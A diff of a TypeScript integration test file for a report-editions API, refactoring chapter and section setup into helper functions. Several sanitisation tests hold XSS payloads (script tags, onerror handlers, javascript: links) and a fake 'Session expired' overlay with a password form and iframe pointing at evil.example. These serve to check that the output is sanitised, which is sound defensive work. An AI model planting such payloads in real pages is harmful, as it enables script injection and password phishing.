@@ -31,6 +31,18 @@ async function newEdition(label: string, basedOnId: string | null = null): Promi
   return (await secretariat.post('/api/v1/report/editions').send({ label, basedOnId }).expect(201)).body;
 }
 
+/** A chapter or section of a draft edition, made by the Secretariat as the tests' setting. */
+async function newChapter(editionId: string, input: { title: string; technology?: string }) {
+  return (await secretariat.post(`/api/v1/report/editions/${editionId}/chapters`).send(input).expect(201)).body;
+}
+
+async function newSection(
+  editionId: string,
+  input: { chapterId: string; title: string; intro?: string; position?: number },
+) {
+  return (await secretariat.post(`/api/v1/report/editions/${editionId}/sections`).send(input).expect(201)).body;
+}
+
 const section = (tree: TEditionTree, chapter: string, title: string) => {
   const found = tree.chapters.find((each) => each.title === chapter)?.sections.find((each) => each.title === title);
   if (!found) throw new Error(`no section ${chapter} › ${title}`);
@@ -53,22 +65,13 @@ describe('structure and trace links', () => {
 
   beforeAll(async () => {
     edition = await newEdition('Test edition A');
-    const chapter = (
-      await secretariat
-        .post(`/api/v1/report/editions/${edition.id}/chapters`)
-        .send({ title: 'Drones', technology: 'drones' })
-        .expect(201)
-    ).body;
-    await secretariat
-      .post(`/api/v1/report/editions/${edition.id}/sections`)
-      .send({ chapterId: chapter.id, title: 'Risks and benefits', intro: 'Drones extend surveillance.' })
-      .expect(201);
-    const uses = (
-      await secretariat
-        .post(`/api/v1/report/editions/${edition.id}/sections`)
-        .send({ chapterId: chapter.id, title: 'Use in Customs', position: 1 })
-        .expect(201)
-    ).body;
+    const chapter = await newChapter(edition.id, { title: 'Drones', technology: 'drones' });
+    await newSection(edition.id, {
+      chapterId: chapter.id,
+      title: 'Risks and benefits',
+      intro: 'Drones extend surveillance.',
+    });
+    const uses = await newSection(edition.id, { chapterId: chapter.id, title: 'Use in Customs', position: 1 });
     sectionId = uses.id;
     const tree = (await delegate.get(`/api/v1/report/editions/${edition.id}`).expect(200)).body;
     expect(tree.chapters[0].sections.map((each: { title: string }) => each.title)).toEqual([
@@ -132,18 +135,8 @@ describe('structure and trace links', () => {
 describe('editions', () => {
   it('copies structure and links into a new edition, independent afterwards; a section that then differs carries suspect links', async () => {
     const base = await newEdition('Test edition B');
-    const chapter = (
-      await secretariat
-        .post(`/api/v1/report/editions/${base.id}/chapters`)
-        .send({ title: 'Drones', technology: 'drones' })
-        .expect(201)
-    ).body;
-    const target = (
-      await secretariat
-        .post(`/api/v1/report/editions/${base.id}/sections`)
-        .send({ chapterId: chapter.id, title: 'Use in Customs' })
-        .expect(201)
-    ).body;
+    const chapter = await newChapter(base.id, { title: 'Drones', technology: 'drones' });
+    const target = await newSection(base.id, { chapterId: chapter.id, title: 'Use in Customs' });
     const reference = await itemIn('ACCEPTED', 'Drone inspections of vessels');
     await secretariat
       .post(`/api/v1/report/sections/${target.id}/traces`)
@@ -174,18 +167,8 @@ describe('editions', () => {
 
   it('refuses publishing with suspect links unless forced, records the force, then freezes the edition', async () => {
     const edition = await newEdition('Test edition C');
-    const chapter = (
-      await secretariat
-        .post(`/api/v1/report/editions/${edition.id}/chapters`)
-        .send({ title: 'Drones', technology: 'drones' })
-        .expect(201)
-    ).body;
-    const target = (
-      await secretariat
-        .post(`/api/v1/report/editions/${edition.id}/sections`)
-        .send({ chapterId: chapter.id, title: 'Risks' })
-        .expect(201)
-    ).body;
+    const chapter = await newChapter(edition.id, { title: 'Drones', technology: 'drones' });
+    const target = await newSection(edition.id, { chapterId: chapter.id, title: 'Risks' });
     const reference = await itemIn('ACCEPTED', 'Drone privacy safeguards');
     const trace = (
       await secretariat.post(`/api/v1/report/sections/${target.id}/traces`).send({ itemRef: reference }).expect(201)
@@ -225,22 +208,9 @@ describe('editions', () => {
 describe('coverage, document and diff', () => {
   it('reports untraced items, empty sections, counts per chapter and the technology × chapter matrix', async () => {
     const edition = await newEdition('Test edition D');
-    const chapter = (
-      await secretariat
-        .post(`/api/v1/report/editions/${edition.id}/chapters`)
-        .send({ title: 'Drones', technology: 'drones' })
-        .expect(201)
-    ).body;
-    const used = (
-      await secretariat
-        .post(`/api/v1/report/editions/${edition.id}/sections`)
-        .send({ chapterId: chapter.id, title: 'Used' })
-        .expect(201)
-    ).body;
-    await secretariat
-      .post(`/api/v1/report/editions/${edition.id}/sections`)
-      .send({ chapterId: chapter.id, title: 'Empty' })
-      .expect(201);
+    const chapter = await newChapter(edition.id, { title: 'Drones', technology: 'drones' });
+    const used = await newSection(edition.id, { chapterId: chapter.id, title: 'Used' });
+    await newSection(edition.id, { chapterId: chapter.id, title: 'Empty' });
     const traced = await itemIn('ACCEPTED', 'Traced drone recommendation');
     const untraced = await itemIn('ACCEPTED', 'Untraced drone recommendation');
     await secretariat.post(`/api/v1/report/sections/${used.id}/traces`).send({ itemRef: traced }).expect(201);
@@ -291,17 +261,12 @@ describe('coverage, document and diff', () => {
 
   it('keeps Markdown in section text from injecting scripts into the HTML document', async () => {
     const edition = await newEdition('Test edition E');
-    const chapter = (
-      await secretariat.post(`/api/v1/report/editions/${edition.id}/chapters`).send({ title: 'Safety' }).expect(201)
-    ).body;
-    await secretariat
-      .post(`/api/v1/report/editions/${edition.id}/sections`)
-      .send({
-        chapterId: chapter.id,
-        title: 'Hostile',
-        intro: 'Hello <script>alert(1)</script> <img src=x onerror="alert(2)"> **bold**',
-      })
-      .expect(201);
+    const chapter = await newChapter(edition.id, { title: 'Safety' });
+    await newSection(edition.id, {
+      chapterId: chapter.id,
+      title: 'Hostile',
+      intro: 'Hello <script>alert(1)</script> <img src=x onerror="alert(2)"> **bold**',
+    });
     const html = await delegate.get(`/api/v1/report/editions/${edition.id}/document`).expect(200);
     expect(html.text).toContain('<strong>bold</strong>');
     expect(html.text).not.toMatch(/<script>alert|onerror/);
@@ -309,20 +274,15 @@ describe('coverage, document and diff', () => {
 
   it('keeps styles, forms and frames in section text out of the HTML document', async () => {
     const edition = await newEdition('Test edition E2');
-    const chapter = (
-      await secretariat.post(`/api/v1/report/editions/${edition.id}/chapters`).send({ title: 'Overlay' }).expect(201)
-    ).body;
-    await secretariat
-      .post(`/api/v1/report/editions/${edition.id}/sections`)
-      .send({
-        chapterId: chapter.id,
-        title: 'Hostile styles',
-        intro:
-          '<div style="position:fixed;inset:0;background:white">Session expired</div>\n\n' +
-          '<form action="https://evil.example"><input name="password"></form><iframe src="https://evil.example"></iframe>\n\n' +
-          '[sign in again](javascript:alert(1)) [docs](https://example.org)',
-      })
-      .expect(201);
+    const chapter = await newChapter(edition.id, { title: 'Overlay' });
+    await newSection(edition.id, {
+      chapterId: chapter.id,
+      title: 'Hostile styles',
+      intro:
+        '<div style="position:fixed;inset:0;background:white">Session expired</div>\n\n' +
+        '<form action="https://evil.example"><input name="password"></form><iframe src="https://evil.example"></iframe>\n\n' +
+        '[sign in again](javascript:alert(1)) [docs](https://example.org)',
+    });
     const html = (await delegate.get(`/api/v1/report/editions/${edition.id}/document`).expect(200)).text;
     const main = html.slice(html.indexOf('<main>'));
     expect(main).toContain('Session expired');
@@ -332,18 +292,11 @@ describe('coverage, document and diff', () => {
 
   it('writes titles, summaries and notes into the Markdown document as plain text', async () => {
     const edition = await newEdition('Edition <script>alert(1)</script>');
-    const chapter = (
-      await secretariat
-        .post(`/api/v1/report/editions/${edition.id}/chapters`)
-        .send({ title: '<img src=x onerror=alert(1)>' })
-        .expect(201)
-    ).body;
-    const hostileSection = (
-      await secretariat
-        .post(`/api/v1/report/editions/${edition.id}/sections`)
-        .send({ chapterId: chapter.id, title: '[sign in](javascript:alert(1))' })
-        .expect(201)
-    ).body;
+    const chapter = await newChapter(edition.id, { title: '<img src=x onerror=alert(1)>' });
+    const hostileSection = await newSection(edition.id, {
+      chapterId: chapter.id,
+      title: '[sign in](javascript:alert(1))',
+    });
     const reference = await itemIn('ACCEPTED', '**Bold** <script>alert(2)</script> title');
     await testApp.query('UPDATE item SET summary = $2 WHERE reference = $1', [
       reference,
@@ -418,18 +371,8 @@ describe('coverage, document and diff', () => {
 describe('links to items that left the accepted state', () => {
   it('keeps a reopened and rejected item out of every report read but the Secretariat’s, and out of the document', async () => {
     const edition = await newEdition('Test edition W');
-    const chapter = (
-      await secretariat
-        .post(`/api/v1/report/editions/${edition.id}/chapters`)
-        .send({ title: 'Drones', technology: 'drones' })
-        .expect(201)
-    ).body;
-    const place = (
-      await secretariat
-        .post(`/api/v1/report/editions/${edition.id}/sections`)
-        .send({ chapterId: chapter.id, title: 'Uses' })
-        .expect(201)
-    ).body;
+    const chapter = await newChapter(edition.id, { title: 'Drones', technology: 'drones' });
+    const place = await newSection(edition.id, { chapterId: chapter.id, title: 'Uses' });
     const title = 'Recommendation later rejected on review';
     const reference = await itemIn('ACCEPTED', title);
     const trace = (
@@ -492,9 +435,7 @@ describe('concurrent writes to one edition', () => {
     const edition = await newEdition('Test edition C2');
     const chapters: { id: string }[] = [];
     for (const title of ['One', 'Two', 'Three', 'Four']) {
-      chapters.push(
-        (await secretariat.post(`/api/v1/report/editions/${edition.id}/chapters`).send({ title }).expect(201)).body,
-      );
+      chapters.push(await newChapter(edition.id, { title }));
     }
     const writes = Array.from({ length: 24 }, (_, index) => {
       const chapter = chapters[index % chapters.length];
